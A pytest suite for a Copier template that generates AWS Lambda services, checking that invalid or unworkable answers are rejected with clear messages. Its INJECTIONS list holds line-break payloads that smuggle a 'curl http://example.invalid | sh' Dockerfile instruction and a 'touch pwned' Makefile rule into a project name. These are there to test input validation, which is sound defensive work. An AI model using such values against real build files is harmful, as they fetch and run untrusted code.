"""Bad answers: every validated question rejects bad values with a message a person can act
on, and nothing is left in the destination. Runs the real `copier` command line, because what
matters is what a user sees."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml
from project_checks import VENV_BIN

pytestmark = pytest.mark.render

# question -> (bad values, words the last line of the error must contain)
BAD_ANSWERS: dict[str, tuple[list[str], list[str]]] = {
    "project_name": (["", "   ", "\t"], ["project name cannot be empty"]),
    "project_slug": (
        ["My_Service", "ab", "9lives", "-svc", "svc-", "a" * 65, "order--service"],
        ["not a valid slug", "order-service"],
    ),
    "description": (["x" * 257, "y" * 300, "😀" * 129], ["AWS Lambda allows at most 256"]),
    # Refused by Copier's own check of `choices`, before any validator: its message names the
    # question and the valid values.
    "python_version": (["3.8", "3.9", "2.7"], ["python_version", "3.13"]),
    "architecture": (["amd64", "aarch64", "x86"], ["architecture", "arm64"]),
    "memory_size": (["64", "0", "20000"], ["Lambda allows", "128 to 10240"]),
    "timeout": (["0", "901", "-5"], ["Lambda allows", "1 to 900"]),
    "aws_region": (
        ["us-east-9", "cn-north-1", "us-gov-west-1", "US-EAST-1"],
        ["not an AWS commercial region", "us-east-1"],
    ),
    "iac": (["pulumi", "cloudformation", "SAM"], ["iac", "terraform"]),
    "trace_exporter": (["jaeger", "xray", "otlp"], ["trace_exporter", "awsxray"]),
    "trigger": (["http", "sns", "REST-API", "apigw"], ["trigger", "function-url"]),
    "instrumentations": (
        ["[requests]", "[]", "[urllib3, httpx]"],
        ["botocore instrumentation cannot be left out"],
    ),
}

# Answers that fit their question's format but cannot work, each set with the words its
# message must contain (why, and what to type instead).
# A line break passed with -d would otherwise start a Dockerfile instruction or a Makefile rule.
INJECTIONS = ["Svc\nRUN curl http://example.invalid | sh", "Svc\n.PHONY: x\nx:\n\ttouch pwned"]
UNWORKABLE: list[tuple[dict[str, str], list[str]]] = [
    *(({"project_name": v}, ["contains a line break", "single line"]) for v in INJECTIONS),
    ({"project_name": "Order\tService"}, ["contains a tab", "U+0009", "single line"]),
    ({"project_name": "Order\x1b[31mService"}, ["control character", "U+001B"]),
    ({"project_name": "Order\u2028Service"}, ["line break", "U+2028"]),
    ({"project_name": " Order Service"}, ["white space", '"Order Service" instead']),
    ({"project_name": "Order\ufffeService"}, ["U+FFFE", "noncharacter"]),
    ({"description": "A service\n"}, ["description contains a line break"]),
    ({"description": "A service "}, ["white space", '"A service" instead']),
    *(
        ({"project_slug": slug}, ["Python keyword", f"{slug}-service"])
        for slug in ("lambda", "class")
    ),
    *(
        ({"project_slug": slug}, ["standard library module", f"{slug}-service"])
        for slug in ("queue", "email", "json")
    ),
    *(
        ({"project_slug": slug}, ["shadow the package", f"{slug}-service"])
        for slug in ("boto3", "opentelemetry")
    ),
    *(({"project_slug": slug}, ["collide", f"{slug}-service"]) for slug in ("app", "tests")),
    # API Gateway's 29 s integration timeout; rest-api is the default trigger.
    ({"timeout": "30"}, ["cannot wait for a timeout of 30 s", "at most 29", "function-url"]),
    ({"timeout": "900", "trigger": "rest-api"}, ["29 s", "sqs or none"]),
    # Terraform + rest-api: the IAM role "<slug>-apigateway-logs" may have 64 characters.
    (
        {"iac": "terraform", "project_slug": "a" * 49},
        ["apigateway-logs", "65 characters long", "AWS allows 64", "at most 48"],
    ),
]

CASES = [
    pytest.param({question: value}, words, id=f"{question}={value[:12]!r}")
    for question, (values, words) in BAD_ANSWERS.items()
    for value in values
] + [
    pytest.param(answers, words, id=",".join(f"{k}={v[:12]!r}" for k, v in answers.items()))
    for answers, words in UNWORKABLE
]


def copier_copy(template: Path, destination: Path, answers: dict[str, str], *extra: str):
    data = [arg for key, value in answers.items() for arg in ("--data", f"{key}={value}")]
    return subprocess.run(
        [
            str(VENV_BIN / "copier"),
            "copy",
            "--trust",
            "--defaults",
            "--vcs-ref=HEAD",
            *extra,
            *data,
            str(template),
            str(destination),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize(("answers", "words"), CASES)
def test_bad_answer_is_rejected_clearly(
    template_repo: Path, tmp_path: Path, answers: dict[str, str], words: list[str]
) -> None:
    destination = tmp_path / "service"
    result = copier_copy(template_repo, destination, answers)
    assert result.returncode != 0
    last_line = result.stderr.strip().splitlines()[-1]
    for word in words:
        assert word in last_line, result.stderr[-1500:]
    assert not destination.exists() or not any(destination.iterdir())


@pytest.mark.parametrize(
    ("answers", "slug"),
    [
        ({"project_name": "Lambda"}, "lambda-service"),
        ({"project_name": "Queue"}, "queue-service"),
        ({"project_name": "X"}, "x-service"),
        ({"project_name": "注文サービス"}, "traced-service"),
        ({"project_name": ("An order service " * 5).strip(), "iac": "terraform"}, None),
    ],
    ids=lambda value: repr(value)[:30],
)
def test_default_slug_is_accepted(
    template_repo: Path, tmp_path: Path, answers: dict[str, str], slug: str | None
) -> None:
    """The slug proposed from any project name passes the slug rules, for every iac."""
    destination = tmp_path / "service"
    result = copier_copy(template_repo, destination, answers, "--skip-tasks")
    assert result.returncode == 0, result.stderr[-1500:]
    saved = yaml.safe_load((destination / ".copier-answers.yml").read_text())["project_slug"]
    assert saved == slug if slug else len(saved) <= 48, saved


def test_defaults_render(template_repo: Path, tmp_path: Path) -> None:
    """`copier copy --defaults` with no answers at all renders a working project."""
    destination = tmp_path / "service"
    result = subprocess.run(
        [
            str(VENV_BIN / "copier"),
            "copy",
            "--trust",
            "--defaults",
            "--skip-tasks",
            "--vcs-ref=HEAD",
            str(template_repo),
            str(destination),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert (destination / "app.py").is_file()
    assert "make local" in result.stderr + result.stdout
    # The default trigger: a REST API, in the answers, the IaC, the handler and its events.
    answers = yaml.safe_load((destination / ".copier-answers.yml").read_text())
    assert answers["trigger"] == "rest-api"
    template = (destination / "template.yaml").read_text()
    assert "Type: AWS::Serverless::Api" in template and "- sigv4: []" in template
    assert "http_api import" in (destination / "app.py").read_text()
    assert (destination / "events" / "bad-request.json").is_file()
